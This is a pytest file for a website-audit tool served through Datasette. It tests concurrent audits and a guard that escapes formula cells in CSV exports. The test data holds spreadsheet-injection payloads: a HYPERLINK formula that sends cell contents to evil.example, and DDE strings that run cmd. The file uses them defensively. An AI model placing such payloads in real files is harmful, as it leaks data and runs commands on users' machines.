"""The publication while work goes on, and what it lets out: audits during serving, formulas in CSV."""

from __future__ import annotations

import csv
import io
import json
import subprocess
import threading
from pathlib import Path

import pytest

from fixtures_db import DatasetteServer, build_audited_db, wmebv_command
from wmebv.core.store import Store
from wmebv.publish.csvsafe import FORMULA_START, CsvCellGuard, csv_safe

pytestmark = pytest.mark.slow
FORMULA = '=HYPERLINK("https://evil.example/?d="&B1,"Parkeervergunning")'
HOSTILE_CELLS = [FORMULA, "+cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


def test_audits_run_while_serve_answers_requests(tmp_path: Path) -> None:
    """Two audits and more while the worklists, page detail and CSV are asked in a loop: never an error."""
    db = build_audited_db(tmp_path / "live.db")
    with DatasetteServer(db) as server:
        page_id = json.loads(server.get("/wmebv/inventaris.json?_shape=array")[2])[0]["Pagina"]
        paths = ["/wmebv/inventaris", "/wmebv/werklijst_redactie", f"/pagina/{page_id}", "/overzicht", "/",
                 "/wmebv/pages.csv?_stream=on", "/wmebv/per_cluster.json", "/wmebv/findings.json"]
        answers: list[tuple[str, int]] = []
        stop = threading.Event()

        def ask() -> None:
            while not stop.is_set():
                for path in paths:
                    answers.append((path, server.get(path)[0]))

        asker = threading.Thread(target=ask)
        asker.start()
        try:
            for _ in range(3):
                audit = subprocess.run([*wmebv_command(), "audit", "--db", str(db), "--no-check-links", "--quiet"],
                                       capture_output=True, text=True, timeout=300)
                assert audit.returncode == 0, audit.stderr
                with Store(db) as store:  # what SQLite does by itself after a large audit: the log into the file
                    store.database.checkpoint()
        finally:
            stop.set()
            asker.join(60)
        latest = json.loads(server.get("/wmebv/crawls.json?_shape=array&_sort_desc=id&_size=1")[2])[0]["id"]
        after = json.loads(server.get(f"/wmebv/page_audits.json?_shape=array&_size=max&crawl_id={latest}")[2])
    errors = [(path, status) for path, status in answers if status != 200]
    assert len(answers) >= len(paths) * 3 and errors == []
    assert after and not any(row["audited_at"] == "2026-03-02T09:00:00+00:00" for row in after)  # the new audit shows, no restart


def test_no_csv_datasette_serves_carries_a_formula(tmp_path: Path) -> None:
    db = build_audited_db(tmp_path / "csv.db")
    with Store(db) as store:
        ids = [row["id"] for row in store.database.db.query("select id from pages where is_product = 1 order by id desc limit :n",
                                                   {"n": len(HOSTILE_CELLS)})]
        for page_id, cell in zip(ids, HOSTILE_CELLS):
            store.database.db.execute("update pages set title = :t where id = :i", {"t": cell, "i": page_id})
        store.database.db.conn.commit()
    with DatasetteServer(db) as server:
        bodies = {path: server.get(path) for path in (
            "/wmebv/inventaris.csv", "/wmebv/inventaris.csv?_dl=1", "/wmebv/pages.csv?_size=max",
            "/wmebv/pages.csv?_stream=on", "/wmebv/inventory.csv?_stream=on", "/wmebv/pages.json?_shape=array&_size=max")}
    for path, (status, _, body) in bodies.items():
        assert status == 200, path
        if ".json" in path:
            assert FORMULA in {row["title"] for row in json.loads(body)}  # JSON is data: left as it is
            continue
        cells = [cell for row in csv.reader(io.StringIO(body, newline="")) for cell in row]
        assert not [cell for cell in cells if cell.startswith(FORMULA_START) and not cell.lstrip("-+").replace(".", "").isdigit()], path
        assert "'" + FORMULA in cells, path


def test_the_csv_guard_keeps_the_dialect_and_any_chunking() -> None:
    rows = [["titel", "getal", "tekst"], [FORMULA, "-12", 'regel een\r\nregel "twee"'], ["@x", "+3.5", "gewoon"]]
    source = io.StringIO()
    csv.writer(source).writerows(rows)
    data = source.getvalue().encode("utf-8") + "éé,€\r\n".encode()
    for size in (1, 2, 3, 7, len(data)):
        guard = CsvCellGuard()
        out = b"".join(guard.feed(data[i:i + size]) for i in range(0, len(data), size)) + guard.finish()
        parsed = list(csv.reader(io.StringIO(out.decode("utf-8"), newline="")))
        assert parsed == [[csv_safe(cell) for cell in row] for row in rows] + [["éé", "€"]], size
    assert csv_safe("-12") == "-12" and csv_safe("=1+1") == "'=1+1" and csv_safe(3) == 3
